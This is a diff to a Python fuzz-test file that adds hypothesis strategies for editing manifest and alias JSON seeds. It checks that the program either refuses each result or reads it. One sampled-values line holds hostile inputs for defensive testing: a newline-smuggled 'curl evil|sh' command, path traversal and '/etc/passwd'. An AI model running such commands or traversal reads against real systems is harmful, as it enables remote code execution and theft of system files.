@@ -1,6 +1,7 @@
 """The fuzz targets under hypothesis: a little of what `make fuzz` does for longer."""
 
 import json
+from typing import Any
 
 import pyarrow as pa
 import pytest
@@ -9,6 +10,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from seeds import parquet_bytes, seeds, valid_table
 
+from trace_opd.data.manifest import read_manifest
 from trace_opd.schemas.contract import validate
 from trace_opd.schemas.tables import CONTRACTS
 
@@ -192,3 +194,61 @@ def test_a_file_of_problems_is_refused_or_holds_problems(data, suffix):
 @given(mutated(seeds("labelled-file")) | JSON)
 def test_a_file_of_labels_is_refused_or_read(data):
     targets.labelled_file(data)
+
+
+VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=4)
+    | st.sampled_from(["x\ncurl evil|sh #", "../..", "/etc/passwd", "train/0123456789abcdef", "\u202e"]),
+    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=3), inner, max_size=2),
+    max_leaves=4,
+)  # fmt: skip
+
+
+def places(value: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
+    """Paths to everything in a JSON value."""
+    inner = (
+        value.items()
+        if isinstance(value, dict)
+        else enumerate(value)
+        if isinstance(value, list)
+        else ()
+    )
+    return [at, *(place for key, child in inner for place in places(child, (*at, key)))]
+
+
+@st.composite
+def edited(draw: st.DrawFn, valid: list[bytes]) -> bytes:
+    """Valid JSON with some values in it replaced by others, or removed."""
+    value = json.loads(draw(st.sampled_from(valid)))
+    for _ in range(draw(st.integers(1, 3))):
+        (*path, last) = draw(st.sampled_from([place for place in places(value) if place]))
+        parent = value
+        for key in path:
+            parent = parent[key]
+        if draw(st.booleans()) and isinstance(parent, dict):
+            del parent[last]
+        else:
+            parent[last] = draw(VALUES)
+        if not value:
+            break
+    return json.dumps(value).encode()
+
+
+@few
+@given(edited(seeds("manifest")) | mutated(seeds("manifest")) | JSON)
+def test_a_manifest_is_refused_or_shown(data):
+    targets.manifest(data)
+
+
+@few
+@given(edited(seeds("aliases")) | mutated(seeds("aliases")) | JSON)
+def test_aliases_are_refused_or_have_our_form(data):
+    targets.aliases(data)
+
+
+@pytest.mark.parametrize("target", ["manifest", "aliases"])
+def test_what_this_program_writes_is_read(target):
+    for seed in seeds(target):
+        getattr(targets, target)(seed)
+        if target == "manifest":
+            assert read_manifest(seed, json.loads(seed)["stage"], json.loads(seed)["id"])
